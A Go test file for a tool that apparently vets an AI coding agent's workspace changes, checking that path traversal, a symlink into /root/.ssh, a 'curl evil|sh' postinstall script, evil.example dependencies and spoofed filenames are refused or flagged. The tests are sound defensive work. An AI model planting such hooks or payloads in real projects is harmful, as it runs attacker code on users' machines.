//go:build unix

package overlay

import (
	"bytes"
	"errors"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestParseChangeSetRefuses(t *testing.T) {
	t.Parallel()
	sum := strings.Repeat("ab", 32)
	tests := []struct {
		name, json, want string
	}{
		{"wrong version", `{"version":2,"changes":[]}`, "version 2"},
		{"unknown field", `{"version":1,"changes":[],"extra":1}`, "unknown field"},
		{"trailing data", `{"version":1,"changes":[]} {}`, "trailing"},
		{"absolute", `{"version":1,"changes":[{"path":"/etc/passwd","op":"add","type":"file","sha256":"` + sum + `"}]}`, "absolute"},
		{"dot-dot", `{"version":1,"changes":[{"path":"a/../../x","op":"add","type":"file","sha256":"` + sum + `"}]}`, `".." component`},
		{"dot", `{"version":1,"changes":[{"path":"./x","op":"add","type":"file","sha256":"` + sum + `"}]}`, `"." or ".."`},
		{"trailing slash", `{"version":1,"changes":[{"path":"x/","op":"add","type":"dir"}]}`, "empty component"},
		{"NUL", `{"version":1,"changes":[{"path":"a\u0000b","op":"add","type":"file","sha256":"` + sum + `"}]}`, "control character"},
		{"escape sequence", `{"version":1,"changes":[{"path":"a\u001b[2Jb","op":"add","type":"file","sha256":"` + sum + `"}]}`, "control character"},
		{"empty path", `{"version":1,"changes":[{"path":"","op":"delete","type":"file"}]}`, "empty"},
		{"bad hash", `{"version":1,"changes":[{"path":"x","op":"add","type":"file","sha256":"zz"}]}`, "sha256"},
		{"negative size", `{"version":1,"changes":[{"path":"x","op":"add","type":"file","size":-1,"sha256":"` + sum + `"}]}`, "negative size"},
		{"mode too big", `{"version":1,"changes":[{"path":"x","op":"add","type":"file","mode":65535,"sha256":"` + sum + `"}]}`, "mode out of range"},
		{"unknown op", `{"version":1,"changes":[{"path":"x","op":"chmod","type":"file"}]}`, "unknown op"},
		{"unknown type", `{"version":1,"changes":[{"path":"x","op":"add","type":"socket"}]}`, "unknown type"},
		{"special added", `{"version":1,"changes":[{"path":"x","op":"add","type":"special"}]}`, "special files"},
		{"empty target", `{"version":1,"changes":[{"path":"x","op":"add","type":"symlink"}]}`, "empty symlink target"},
		{"target with NUL", `{"version":1,"changes":[{"path":"x","op":"add","type":"symlink","target":"a\u0000"}]}`, "NUL"},
		{"content on delete", `{"version":1,"changes":[{"path":"x","op":"delete","type":"file","sha256":"` + sum + `"}]}`, "no content"},
		{"twice", `{"version":1,"changes":[{"path":"x","op":"add","type":"dir"},{"path":"x","op":"add","type":"dir"}]}`, "twice"},
		{"under a symlink", `{"version":1,"changes":[{"path":"docs","op":"add","type":"symlink","target":"/root/.ssh"},{"path":"docs/authorized_keys","op":"add","type":"file","sha256":"` + sum + `"}]}`, "inside docs, which is a symlink"},
		{"under a deleted dir", `{"version":1,"changes":[{"path":"d","op":"delete","type":"dir"},{"path":"d/x","op":"add","type":"file","sha256":"` + sum + `"}]}`, "which is deleted"},
		{"not json", `{"version":1,"changes":[`, "decode"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ParseChangeSet([]byte(tc.json))
			if !errors.Is(err, ErrInvalidChangeSet) || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want ErrInvalidChangeSet mentioning %q", err, tc.want)
			}
		})
	}
}

func TestParseChangeSetAccepts(t *testing.T) {
	t.Parallel()
	sum := strings.Repeat("0f", 32)
	js := `{"version":1,"changes":[
		{"path":"b","op":"add","type":"file","mode":420,"size":3,"sha256":"` + sum + `"},
		{"path":"a","op":"add","type":"file","mode":420,"size":3,"sha256":"` + sum + `"},
		{"path":"a","op":"delete","type":"symlink"},
		{"path":"d","op":"delete","type":"file"},
		{"path":"d","op":"add","type":"dir","mode":493},
		{"path":"d/x","op":"add","type":"symlink","mode":511,"target":"../b"},
		{"path":"\"bad\\xffname\"","op":"skip","type":"special","reason":"name"}]}`
	cs, err := ParseChangeSet([]byte(js))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cs.Changes {
		got = append(got, string(c.Op)+" "+c.Path)
	}
	want := []string{`skip "bad\xffname"`, "delete a", "add a", "add b", "delete d", "add d", "add d/x"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("order: got %q, want %q", got, want)
	}
}

func TestMerge3(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, base, mine, theirs, want string
		clean                          bool
	}{
		{"no changes", "a\nb\n", "a\nb\n", "a\nb\n", "a\nb\n", true},
		{"only theirs", "a\nb\nc\n", "a\nb\nc\n", "a\nB\nc\n", "a\nB\nc\n", true},
		{"only mine", "a\nb\nc\n", "A\nb\nc\n", "a\nb\nc\n", "A\nb\nc\n", true},
		{"both, apart", "a\nb\nc\nd\ne\n", "A\nb\nc\nd\ne\n", "a\nb\nc\nd\nE\n", "A\nb\nc\nd\nE\n", true},
		{"same change", "a\nb\n", "a\nX\n", "a\nX\n", "a\nX\n", true},
		{"insert both ends", "m\n", "top\nm\n", "m\nbottom\n", "top\nm\nbottom\n", true},
		{"delete and edit elsewhere", "a\nb\nc\nd\n", "a\nc\nd\n", "a\nb\nc\nD\n", "a\nc\nD\n", true},
		{"conflict", "a\nb\nc\n", "a\nmine\nc\n", "a\ntheirs\nc\n",
			"a\n" + markerMine + "\nmine\n" + markerBase + "\nb\n" + markerSep + "\ntheirs\n" + markerTheirs + "\nc\n", false},
		{"conflict at unterminated end", "a\nb", "a\nmine", "a\ntheirs",
			"a\n" + markerMine + "\nmine\n" + markerBase + "\nb\n" + markerSep + "\ntheirs\n" + markerTheirs + "\n", false},
		{"empty base", "", "x\n", "y\n", markerMine + "\nx\n" + markerBase + "\n" + markerSep + "\ny\n" + markerTheirs + "\n", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, clean := merge3(tc.base, tc.mine, tc.theirs)
			if got != tc.want || clean != tc.clean {
				t.Errorf("merge3:\n got %q (clean %v)\nwant %q (clean %v)", got, clean, tc.want, tc.clean)
			}
		})
	}
}

// TestMerge3Property: when only one side changes, the merge is that side.
func TestMerge3Property(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(7, 7))
	for i := 0; i < 200; i++ {
		base := randomText(r, r.IntN(20))
		changed := randomText(r, r.IntN(20))
		if got, clean := merge3(base, base, changed); !clean || got != changed {
			t.Fatalf("theirs only: got %q clean %v, want %q", got, clean, changed)
		}
		if got, clean := merge3(base, changed, base); !clean || got != changed {
			t.Fatalf("mine only: got %q clean %v, want %q", got, clean, changed)
		}
	}
}

func TestBase85RoundTrip(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(1, 2))
	for _, n := range []int{0, 1, 3, 4, 26, 27, 51, 52, 53, 1000, 70000} {
		data := make([]byte, n)
		for i := range data {
			data[i] = byte(r.IntN(256))
		}
		var buf bytes.Buffer
		writeBinaryLiteral(&buf, data)
		h, used, err := parseBinaryHunk(splitLines(buf.String()))
		if err != nil {
			t.Fatalf("%d bytes: %v", n, err)
		}
		if used != len(splitLines(buf.String())) || !bytes.Equal(h.data, data) {
			t.Errorf("%d bytes: round trip differs", n)
		}
	}
	// Git's own encoding of "hello\n" (known vector: zlib of it, base85).
	if got := string(base85Encode(nil, []byte{0, 0, 0, 0})); got != "00000" {
		t.Errorf("base85 of zero: got %q", got)
	}
	if got := string(base85Encode(nil, []byte{0xff, 0xff, 0xff, 0xff})); got != "|NsC0" {
		t.Errorf("base85 of 0xffffffff: got %q, want |NsC0", got)
	}
}

func TestApplyDelta(t *testing.T) {
	t.Parallel()
	src := []byte("hello, world\n")
	// source size 13, result size 19, copy 0..6 ("hello,"), insert " dear", copy 6..13.
	delta := []byte{13, 19, 0x80 | 0x01 | 0x10, 0, 6, 6, ' ', 'd', 'e', 'a', 'r', ',', 0x80 | 0x01 | 0x10, 6, 7}
	got, err := applyDelta(src, delta)
	if err != nil || string(got) != "hello, dear, world\n" {
		t.Errorf("applyDelta: got %q, %v", got, err)
	}
	if _, err := applyDelta(src, []byte{13, 5, 0x80 | 0x01 | 0x10, 200, 5}); err == nil {
		t.Error("copy past the source accepted")
	}
}

func TestGitQuote(t *testing.T) {
	t.Parallel()
	for _, p := range []string{"plain", "sp ace", `q"uote`, `back\slash`, "tab\tx", "naïve", "\x01\x7f\xff"} {
		q := gitQuote("a/", p)
		if q[0] != '"' {
			if q != "a/"+p {
				t.Errorf("%q: got %q", p, q)
			}
			continue
		}
		got, rest, err := gitUnquote(q)
		if err != nil || rest != "" || got != "a/"+p {
			t.Errorf("%q: quoted %q, unquoted %q %q %v", p, q, got, rest, err)
		}
	}
}

func TestDisplayPath(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"src/main.go", "src/main.go"},
		{"naïve café", "naïve café"},
		{"evil\x1b[2J", `"evil\x1b[2J"`},
		{"rtl\u202etxt.exe", `"rtl\u202etxt.exe"`},
		{"zero\u200bwidth", `"zero\u200bwidth"`},
	}
	for _, tc := range tests {
		if got := DisplayPath(tc.in); got != tc.want {
			t.Errorf("DisplayPath(%q): got %s, want %s", tc.in, got, tc.want)
		}
	}
}

func TestClassifyPath(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path string
		want Attention
	}{
		{"src/main.go", AttentionNone},
		{".git/hooks/pre-commit", AttentionProtected},
		{".git/config", AttentionProtected},
		{".git", AttentionProtected},
		{".Git/HEAD", AttentionProtected},
		{".g\u200dit/config", AttentionProtected},
		{"sub/.git/hooks/x", AttentionProtected},
		{".vibedom/trusted_domains.txt", AttentionProtected},
		{".husky/pre-push", AttentionProtected},
		{".githooks/commit-msg", AttentionProtected},
		{".envrc", AttentionProtected},
		{"sub/.envrc", AttentionProtected},
		{".pre-commit-config.yaml", AttentionProtected},
		{".github/workflows/ci.yml", AttentionFlagged},
		{".github/ISSUE_TEMPLATE.md", AttentionNone},
		{".gitlab-ci.yml", AttentionFlagged},
		{".vscode/tasks.json", AttentionFlagged},
		{".vscode/settings.json", AttentionFlagged},
		{".idea/workspace.xml", AttentionFlagged},
		{"Makefile", AttentionFlagged},
		{"build/rules.mk", AttentionFlagged},
		{".gitattributes", AttentionFlagged},
		{"app.code-workspace", AttentionFlagged},
		{".cargo/config.toml", AttentionFlagged},
		{"package.json", AttentionNone}, // judged by what changes in it
		{"docs/git.md", AttentionNone},
		// Spellings git itself refuses as .git (NTFS, HFS+).
		{".git./config", AttentionProtected},
		{".git /config", AttentionProtected},
		{"git~1/config", AttentionProtected},
		{"GIT~1/hooks/x", AttentionProtected},
		{".git::$INDEX_ALLOCATION/config", AttentionProtected},
		{`sub\.git\config`, AttentionProtected},
		{".gitignore", AttentionNone},
		{"git~x", AttentionNone},
		{"lefthook.yaml", AttentionProtected},
		{".lefthook/pre-commit/x.sh", AttentionProtected},
		// What runs code on the host (issue 9, item 4).
		{".claude/settings.json", AttentionFlagged},
		{"sub/.claude/settings.local.json", AttentionFlagged},
		{".mcp.json", AttentionFlagged},
		{".devcontainer/devcontainer.json", AttentionFlagged},
		{".devcontainer.json", AttentionFlagged},
		{"sub/.devcontainer/Dockerfile", AttentionFlagged},
		{".pnpmfile.cjs", AttentionFlagged},
		{".yarn/plugins/evil.cjs", AttentionFlagged},
		{".yarn/releases/yarn-4.cjs", AttentionFlagged},
		{".yarn/cache/x.zip", AttentionNone},
		{"bunfig.toml", AttentionFlagged},
		{"crates/x/.cargo/config.toml", AttentionFlagged},
		{"crates/x/.CARGO/config", AttentionFlagged},
		{".cargo/registry/x", AttentionNone},
		{"mise.toml", AttentionFlagged},
		{"mise.local.toml", AttentionFlagged},
		{".mise.toml", AttentionFlagged},
		{".mise/tasks/build", AttentionFlagged},
		{".config/mise/config.toml", AttentionFlagged},
		{"justfile", AttentionFlagged},
		{"Justfile", AttentionFlagged},
		{"gradlew", AttentionFlagged},
		{"gradle/wrapper/gradle-wrapper.properties", AttentionFlagged},
		{"app/build.gradle.kts", AttentionFlagged},
		{"mvnw", AttentionFlagged},
		{".mvn/wrapper/maven-wrapper.properties", AttentionFlagged},
		{"tests/conftest.py", AttentionFlagged},
		{"setup.py", AttentionFlagged},
		{".venv/lib/python3.12/site-packages/evil.pth", AttentionFlagged},
		{".zed/tasks.json", AttentionFlagged},
		{".forgejo/workflows/ci.yml", AttentionFlagged},
		{".gitea/workflows/ci.yaml", AttentionFlagged},
		{"build.rs", AttentionFlagged},
		{"flake.nix", AttentionFlagged},
		{"MAKEFILE", AttentionFlagged},
		{"makefile.", AttentionFlagged}, // NTFS drops the dot
		{"src/setup.py.txt", AttentionNone},
		{"docs/justfile.md", AttentionNone},
	}
	for _, tc := range tests {
		if got, why := ClassifyPath(tc.path); got != tc.want {
			t.Errorf("ClassifyPath(%q): got %v (%s), want %v", tc.path, got, why, tc.want)
		}
	}
}

func TestPackageScriptsFlagged(t *testing.T) {
	t.Parallel()
	s := newTestSession(t, tree{"package.json": `file:{"name":"x","scripts":{"test":"jest"},"version":"1.0.0"}` + "\n"})
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "package.json"), `{"name":"x","scripts":{"test":"jest","postinstall":"curl evil|sh"},"version":"1.0.0"}`+"\n", 0o644)
	s.finish(t, a)
	pl, err := MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	if got := pl.Files[0]; got.Attention != AttentionFlagged || !strings.Contains(got.Why, "scripts") {
		t.Errorf("package.json: got %v %q, want flagged for scripts", got.Attention, got.Why)
	}
	// A version bump alone is not flagged.
	writeFile(t, filepath.Join(a, "package.json"), `{"name":"x","scripts":{"test":"jest"},"version":"1.0.1"}`+"\n", 0o644)
	os.Remove(filepath.Join(s.dir, PatchFileName))
	s.finish(t, a)
	pl, err = MakePlan(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	if got := pl.Files[0]; got.Attention != AttentionNone {
		t.Errorf("version bump: got %v %q, want no attention", got.Attention, got.Why)
	}
}

// lyingSource serves content other than what the change set announced.
type lyingSource struct{}

func (lyingSource) Open(string) (io.ReadCloser, error) {
	return io.NopCloser(strings.NewReader("not what was scanned\n")), nil
}

func TestBuildPatchVerifiesContent(t *testing.T) {
	t.Parallel()
	s := newTestSession(t, tree{"a.txt": "file:a\n"})
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "a.txt"), "agent\n", 0o644)
	cs, err := DiffTrees(s.ws, a)
	if err != nil {
		t.Fatal(err)
	}
	bl, err := OpenBaseline(filepath.Join(s.dir, BaselineDir))
	if err != nil {
		t.Fatal(err)
	}
	_, err = BuildPatch(t.Context(), cs, lyingSource{}, bl, io.Discard, BuildOptions{})
	if !errors.Is(err, ErrContentMismatch) {
		t.Errorf("got %v, want ErrContentMismatch", err)
	}
}

// TestInterruptedApply: an apply that stops part way (an I/O error while
// writing b/b.txt) leaves no partial or temporary file; undo returns to
// before, and applying again finishes the rest.
func TestInterruptedApply(t *testing.T) {
	for _, then := range []string{"undo", "resume"} {
		t.Run(then, func(t *testing.T) {
			s := newTestSession(t, tree{"a.txt": "file:a\n", "b/b.txt": "file:b\n", "c.txt": "file:c\n"})
			ag := s.agentTree(t)
			writeFile(t, filepath.Join(ag, "a.txt"), "agent a\n", 0o644)
			writeFile(t, filepath.Join(ag, "b/b.txt"), "agent b\n", 0o644)
			writeFile(t, filepath.Join(ag, "c.txt"), "agent c\n", 0o644)
			s.finish(t, ag)
			before := treeHash(t, s.ws)
			opts := ApplyOptions{Workspace: s.ws, SessionDir: s.dir}
			stageFail = "b/b.txt"
			rep, err := Apply(t.Context(), opts)
			stageFail = ""
			if !errors.Is(err, ErrApplyIncomplete) {
				t.Fatalf("apply: got %v, want ErrApplyIncomplete", err)
			}
			if len(rep.Applied) != 0 {
				t.Errorf("applied %v before the failure was known; want nothing renamed from a failed batch", rep.Applied)
			}
			filepath.Walk(s.ws, func(p string, fi os.FileInfo, err error) error {
				if err == nil && strings.HasPrefix(fi.Name(), tempPrefix) {
					t.Errorf("temporary file left: %s", p)
				}
				return nil
			})
			for _, f := range []string{"a.txt", "b/b.txt", "c.txt"} {
				got := readFile(t, filepath.Join(s.ws, f))
				if !strings.HasSuffix(got, strings.TrimSuffix(filepath.Base(f), ".txt")+"\n") {
					t.Errorf("%s partial: %q", f, got)
				}
			}
			switch then {
			case "undo":
				if _, err := Undo(t.Context(), s.dir, s.ws, UndoOptions{}); err != nil {
					t.Fatal(err)
				}
				if got := treeHash(t, s.ws); got != before {
					t.Errorf("undo after an interrupted apply:\n%s", treeListing(t, s.ws))
				}
			case "resume":
				if _, err := Apply(t.Context(), opts); err != nil {
					t.Fatal(err)
				}
				if got, want := treeListing(t, s.ws), treeListing(t, ag); got != want {
					t.Errorf("resumed apply:\n got %s\nwant %s", got, want)
				}
				// Two undos go back to the start.
				for range 2 {
					if _, err := Undo(t.Context(), s.dir, s.ws, UndoOptions{}); err != nil {
						t.Fatal(err)
					}
				}
				if got := treeHash(t, s.ws); got != before {
					t.Errorf("undo twice:\n%s", treeListing(t, s.ws))
				}
			}
		})
	}
}

func TestClassifyDir(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path string
		want Attention
	}{
		{".vscode", AttentionFlagged},
		{".github", AttentionFlagged},
		{".cargo", AttentionFlagged},
		{"sub/.cargo", AttentionFlagged},
		{".idea", AttentionFlagged},
		{".git", AttentionProtected},
		{".yarn", AttentionFlagged},
		{"src", AttentionNone},
		{"docs/github", AttentionNone},
	}
	for _, tc := range tests {
		if got, why := ClassifyDir(tc.path); got != tc.want {
			t.Errorf("ClassifyDir(%q): got %v (%s), want %v", tc.path, got, why, tc.want)
		}
	}
}

// TestPackageJSONRisk: package.json is compared old against new by what
// runs: a version bump is not flagged, a new script or a dependency from
// outside the registry is.
func TestPackageJSONRisk(t *testing.T) {
	t.Parallel()
	base := `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"}}`
	tests := []struct {
		name, new string
		want      string // "" not flagged, else a word of the reason
	}{
		{"version bump", `{"name":"x","version":"1.1.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.3.0"}}`, ""},
		{"reformatted", "{\n  \"version\": \"1.0.0\", \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\"},\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"}\n}", ""},
		{"registry dependency added", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0","lodash":"~4.17"}}`, ""},
		{"new script", `{"name":"x","version":"1.0.0","scripts":{"test":"jest","postinstall":"curl evil|sh"},"dependencies":{"left-pad":"^1.0.0"}}`, "scripts"},
		{"script escaped in the key", `{"name":"x","version":"1.0.0","scr\u0069pts":{"test":"curl evil|sh"},"dependencies":{"left-pad":"^1.0.0"}}`, "scripts"},
		{"git+ dependency", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"git+https://evil.example/x.git"}}`, "left-pad"},
		{"github shorthand", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"devDependencies":{"y":"evil/y"}}`, "devDependencies"},
		{"file: dependency", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0","z":"file:../z"}}`, "z"},
		{"link: dependency", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"optionalDependencies":{"z":"link:/tmp/z"}}`, "z"},
		{"tarball URL", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"https://evil.example/x.tgz"}}`, "left-pad"},
		{"npm alias", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"npm:evil@1"}}`, "left-pad"},
		{"nested override", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"overrides":{"a":{"b":"github:evil/b"}}}`, "overrides"},
		{"husky hooks", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"husky":{"hooks":{"pre-commit":"evil"}}}`, "husky"},
		{"bin", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"bin":{"ls":"evil.js"}}`, "bin"},
		{"gypfile", `{"name":"x","version":"1.0.0","scripts":{"test":"jest"},"dependencies":{"left-pad":"^1.0.0"},"gypfile":true}`, "gypfile"},
		{"not JSON", `{"name":"x",`, "JSON"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := packageJSONRisk([]byte(base), []byte(tc.new))
			if (tc.want == "") != (got == "") || !strings.Contains(got, tc.want) {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
	if got := packageJSONRisk(nil, []byte(`{"name":"new","dependencies":{"a":"^1"}}`)); got != "" {
		t.Errorf("new package.json with registry dependencies: got %q, want not flagged", got)
	}
}
